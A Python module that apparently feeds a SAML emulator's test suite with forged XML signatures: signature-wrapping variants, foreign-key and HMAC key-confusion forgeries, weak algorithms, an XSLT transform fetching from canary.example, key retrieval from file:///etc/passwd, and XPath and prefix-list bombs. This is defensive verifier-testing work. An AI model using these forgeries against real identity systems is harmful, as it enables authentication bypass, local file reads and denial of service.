"""Signatures that are missing, doctored, weak, by the wrong key, or over the wrong thing."""

import re
from collections.abc import Callable
from typing import Any

from emulator.protocols.keys import load_signing_key, make_signing_key
from emulator.protocols.xmldsig_shape import DS, ENVELOPED, EXC_C14N
from emulator.serving.forging.breaks import Forgery, breaks
from emulator.serving.forging.signing import MORE, TRANSFORMS, canonical, key_info, key_value

_NOTHING = "47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU="  # SHA-256 of the empty string
C14N = TRANSFORMS[1]


def _doctored(name: str, says: str, change: Callable[[str], str]) -> None:
    """A break that edits the text of the signed assertion."""

    def apply(forgery: Forgery) -> None:
        def finish(signed: bytes) -> bytes:
            changed = change(signed.decode())
            assert changed.encode() != signed, name
            return changed.encode()

        forgery.finish = finish

    breaks(name, says)(apply)


def _odd(name: str, says: str, make: Callable[[Forgery], dict[str, Any]]) -> None:
    """A break that signs with other arguments."""

    def apply(forgery: Forgery) -> None:
        forgery.signing = make(forgery)

    breaks(name, says)(apply)


def _inside(tag: str, value: str) -> Callable[[str], str]:
    return lambda text: re.sub(f"(<ds:{tag}>)[^<]*(</ds:{tag}>)", lambda m: m[1] + value + m[2], text, count=1)


def _element(tag: str, text: str) -> str:
    found = re.search(f"<ds:{tag}[ >].*?</ds:{tag}>", text, re.DOTALL)
    assert found is not None, tag
    return found[0]


def _without(tag: str) -> Callable[[str], str]:
    return lambda text: text.replace(_element(tag, text), "", 1)


def _twice(tag: str) -> Callable[[str], str]:
    return lambda text: text.replace(_element(tag, text), _element(tag, text) * 2, 1)


def _flip(text: str) -> str:
    at = text.index("<ds:SignatureValue>") + len("<ds:SignatureValue>") + 10
    return text[:at] + ("A" if text[at] != "A" else "B") + text[at + 1 :]


def _object(text: str, inside: str) -> str:
    return text.replace("</ds:Signature>", f"<ds:Object>{inside}</ds:Object></ds:Signature>", 1)


def _moved(text: str) -> str:
    """The signature as the first child: the place of neither version."""
    signature = _element("Signature", text)
    bare = text.replace(signature, "", 1)
    at = bare.index(">") + 1
    return bare[:at] + signature + bare[at:]


_doctored("signature", "one byte of the signature changed", _flip)
_doctored("unsigned", "no signature at all", _without("Signature"))
_doctored("empty-signature", "the signature value is empty", _inside("SignatureValue", ""))
_doctored("no-signature-value", "the signature has no value", _without("SignatureValue"))
_doctored("zero-signature", "the signature value is zeroes", _inside("SignatureValue", "A" * 344))
_doctored("garbage-signature", "the signature value is no base64", _inside("SignatureValue", "!%?"))
_doctored("huge-signature", "the signature value has 200 kB", _inside("SignatureValue", "A" * 200_000))
_doctored("over-limit-signature", "the signature value has 2 MB", _inside("SignatureValue", "A" * 2_000_000))
_doctored("empty-digest", "the digest value is empty", _inside("DigestValue", ""))
_doctored("digest-of-nothing", "the digest is that of the empty string", _inside("DigestValue", _NOTHING))
_doctored("no-reference", "the signature refers to nothing", _without("Reference"))
_doctored("two-references", "the signature refers to the assertion twice", _twice("Reference"))
_doctored("no-uri", "the reference has no URI", lambda text: re.sub(r'(<ds:Reference) URI="[^"]*"', r"\1", text))
_doctored("wrong-namespace", "the signature stands in another namespace", lambda text: text.replace(DS, "urn:not:dsig"))
_doctored("no-signed-info", "the signature says nothing of what it signs", _without("SignedInfo"))
_doctored("two-signed-info", "two SignedInfo, the genuine one first", _twice("SignedInfo"))
_doctored("two-signatures", "the signature stands in the assertion twice", _twice("Signature"))
_doctored(
    "hidden-signed-info", "a second SignedInfo is hidden in a ds:Object",
    lambda text: _object(text, _element("SignedInfo", text)),
)  # fmt: skip
_doctored(
    "signed-info-in-object", "the only SignedInfo is in a ds:Object",
    lambda text: _object(text.replace(_element("SignedInfo", text), "", 1), _element("SignedInfo", text)),
)  # fmt: skip
_doctored(
    "smuggled-digest", "a second digest value stands in the reference",
    lambda text: text.replace("</ds:Reference>", f"<ds:DigestValue>{_NOTHING}</ds:DigestValue></ds:Reference>", 1),
)  # fmt: skip
_doctored(
    "digest-in-transform", "a digest value stands in a transform",
    lambda text: text.replace("</ds:Transform>", f"<ds:DigestValue>{_NOTHING}</ds:DigestValue></ds:Transform>", 1),
)  # fmt: skip
_doctored(
    "comment-in-digest", "a comment is the first child of the digest value",
    lambda text: text.replace("<ds:DigestValue>", f"<ds:DigestValue><!--{_NOTHING}-->", 1),
)  # fmt: skip
_doctored(
    "text-in-signature", "text stands between the signature's elements",
    lambda text: text.replace("<ds:SignatureValue>", "x<ds:SignatureValue>", 1),
)  # fmt: skip
_doctored("moved-signature", "the signature is not at its place in the schema", _moved)
_doctored(
    "hmac-length", "the signature method wants an HMAC of 8 bits",
    lambda text: re.sub("(<ds:SignatureMethod[^>]*>)", r"\1<ds:HMACOutputLength>8</ds:HMACOutputLength>", text),
)  # fmt: skip

_doctored(
    "void-c14n", "a relative namespace URI inside what is signed: canonicalisation fails",
    lambda text: re.sub(r"(<saml2?:Assertion)", r'\1 xmlns:void="1"', text, count=1),
)  # fmt: skip
_doctored(
    "void-c14n-signature", "a relative namespace URI on the signature",
    lambda text: text.replace("<ds:Signature ", '<ds:Signature xmlns:void="1" ', 1),
)  # fmt: skip


@breaks("void-c14n-signed", "the same, signed as if canonicalisation had given nothing")
def _void_signed(forgery: Forgery) -> None:
    def prepare(unsigned: bytes) -> bytes:
        return re.sub(rb"(<saml2?:Assertion)", rb'\1 xmlns:void="1"', unsigned, count=1)

    forgery.assertion, forgery.prepare, forgery.signing = forgery.victim, prepare, {"signed_bytes": b""}


# -- keys ----------------------------------------


def _foreign_key(name: str, says: str, info: Callable[[Forgery], str]) -> None:
    """A perfect signature by somebody else, over the victim's claims, with this KeyInfo."""

    def apply(forgery: Forgery) -> None:
        forgery.assertion = forgery.victim
        forgery.signing = {"info": info(forgery)}
        forgery.key = forgery.foreign

    breaks(name, says)(apply)


_foreign_key("foreign-key", "signed with a key that is not registered", lambda f: key_info(f.foreign))
_foreign_key(
    "foreign-key-real-certificate", "a foreign key, with the registered certificate", lambda f: key_info(f.key)
)
_foreign_key("foreign-key-both", "a foreign key, with both certificates", lambda f: key_info(f.key, f.foreign))
_foreign_key("foreign-key-both-own-first", "the same, its own first", lambda f: key_info(f.foreign, f.key))
_foreign_key("foreign-key-value", "a foreign key as KeyValue only", lambda f: key_value(f.foreign))
_foreign_key("foreign-key-no-info", "a foreign key without KeyInfo", lambda f: "")
_foreign_key(
    "foreign-key-value-real-certificate", "a foreign key as KeyValue beside the registered certificate",
    lambda f: key_value(f.foreign).replace("</ds:KeyInfo>", key_info(f.key)[len("<ds:KeyInfo>") :]),
)  # fmt: skip


@breaks("foreign-key-same-subject", "a foreign key whose certificate has the registered one's subject")
def _same_subject(forgery: Forgery) -> None:
    names = dict(part.partition("=")[::2] for part in forgery.key.certificate.subject.split(","))
    made = make_signing_key(
        names.get("CN", "x"), not_before_ms=forgery.key.certificate.not_before_ms, days=7305,
        organization=names.get("O", ""), unit=names.get("OU", ""), private=forgery.foreign._private,
    )  # fmt: skip
    forgery.assertion, forgery.key = forgery.victim, load_signing_key(*made)
    forgery.signing = {"algorithm": "rsa-sha256"}


_odd(
    "garbage-key-info",
    "a true signature whose certificate is garbage",
    lambda f: {
        "info": "<ds:KeyInfo><ds:X509Data><ds:X509Certificate>AAAA</ds:X509Certificate></ds:X509Data></ds:KeyInfo>"
    },
)
_odd("attacker-key-info", "a true signature that names a foreign certificate", lambda f: {"info": key_info(f.foreign)})


def _retrieved(uri: str) -> Callable[[Forgery], dict[str, Any]]:
    return lambda f: {"info": f'<ds:KeyInfo><ds:RetrievalMethod URI="{uri}"></ds:RetrievalMethod></ds:KeyInfo>'}


for _name, _uri in (("http", "http://canary.example/key"), ("file", "file:///etc/passwd")):

    def _apply(forgery: Forgery, uri: str = _uri) -> None:
        forgery.signing = _retrieved(uri)(forgery)

    breaks(f"retrieval-{_name}", f"a true signature whose key is to be fetched from {_uri}", verdict="owner")(_apply)


def _hmac(secret: Callable[[Forgery], bytes]) -> Callable[[Forgery], dict[str, Any]]:
    def make(forgery: Forgery) -> dict[str, Any]:
        forgery.assertion = forgery.victim
        return {"method": MORE + "hmac-sha256", "secret": secret(forgery)}

    return make


_odd("hmac-pem", "key confusion: an HMAC with the certificate's PEM", _hmac(lambda f: f.key.certificate_pem.encode()))
_odd("hmac-der", "key confusion: an HMAC with the certificate's DER", _hmac(lambda f: f.key.certificate.der))
_odd("hmac-base64", "key confusion: an HMAC with the base64", _hmac(lambda f: f.key.certificate_b64.encode()))
_odd("hmac-empty", "key confusion: an HMAC with no key", _hmac(lambda f: b""))

# -- algorithms, references, transforms ----------------------------------------


_odd("weak-signature", "truly signed with RSA-SHA1", lambda f: {"algorithm": "rsa-sha1"})
_odd("weak-digest", "the digest is truly SHA-1", lambda f: {"digest_method": DS + "sha1", "digest_name": "sha1"})
_odd("md5-digest", "the digest is truly MD5", lambda f: {"digest_method": MORE + "md5", "digest_name": "md5"})

for _label, _uri in {
    "none": "none", "empty": "", "unknown": "urn:unknown", "dsa": DS + "dsa-sha1", "md5": MORE + "rsa-md5",
    "pss": "http://www.w3.org/2007/05/xmldsig-more#sha256-rsa-MGF1",
}.items():  # fmt: skip
    _odd(f"method-{_label}", f"the signature method is {_uri or 'empty'}", lambda f, uri=_uri: {"method": uri})  # type: ignore[misc]
for _label, _uri in {
    "inclusive-c14n": "http://www.w3.org/TR/2001/REC-xml-c14n-20010315",
    "c14n-with-comments": EXC_C14N + "WithComments",
}.items():
    _odd(_label, f"canonicalised with {_uri}", lambda f, uri=_uri: {"c14n": uri})  # type: ignore[misc]

_odd("signed-nothing", "a true signature over the empty string", lambda f: {"signed_bytes": b""})
_odd("signed-decoy", "a true signature over a decoy", lambda f: {"signed_bytes": canonical(b"<decoy></decoy>")})
for _label, _uri in {
    "empty-uri": "", "foreign-uri": "#other", "http-reference": "http://canary.example/x",
    "file-reference": "file:///etc/passwd", "xpointer": "#xpointer(/)",
}.items():  # fmt: skip
    _odd(_label, f"the reference is {_uri or 'empty'}", lambda f, uri=_uri: {"uri": uri})  # type: ignore[misc]


def _transform(uri: str, inside: str = "") -> str:
    return f'<ds:Transform Algorithm="{uri}">{inside}</ds:Transform>'


_XSLT = (
    '<x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform" version="1.0"><x:template match="/">'
    "<x:copy-of select=\"document('http://canary.example/x')\"></x:copy-of></x:template></x:stylesheet>"
)
_BOMB = f"<ds:XPath>{'count(//. | //@* | //namespace::*)' * 50}</ds:XPath>"
_PREFIXES = f'<e:InclusiveNamespaces xmlns:e="{EXC_C14N}" PrefixList="{"a " * 5000}"></e:InclusiveNamespaces>'
_ENVELOPED = _transform(ENVELOPED)
for _label, _list in {
    "no-transforms": (),
    "c14n-only": (C14N,),
    "enveloped-only": (_ENVELOPED,),
    "swapped-transforms": (C14N, _ENVELOPED),
    "xslt": (_ENVELOPED, _transform("http://www.w3.org/TR/1999/REC-xslt-19991116", _XSLT)),
    "xpath-bomb": (_ENVELOPED, _transform("http://www.w3.org/TR/1999/REC-xpath-19991116", _BOMB)),
    "base64-transform": (_ENVELOPED, _transform(DS + "base64")),
    "unknown-transform": (_ENVELOPED, _transform("urn:unknown")),
    "many-transforms": (_ENVELOPED, *[C14N] * 1500),
    "transform-parameters": (_ENVELOPED, _transform(EXC_C14N, "<x></x>")),
    "long-prefix-list": (_ENVELOPED, _transform(EXC_C14N, _PREFIXES)),
}.items():
    _odd(_label, f"transforms: {_label.replace('-', ' ')}", lambda f, given=_list: {"transforms": given})  # type: ignore[misc]
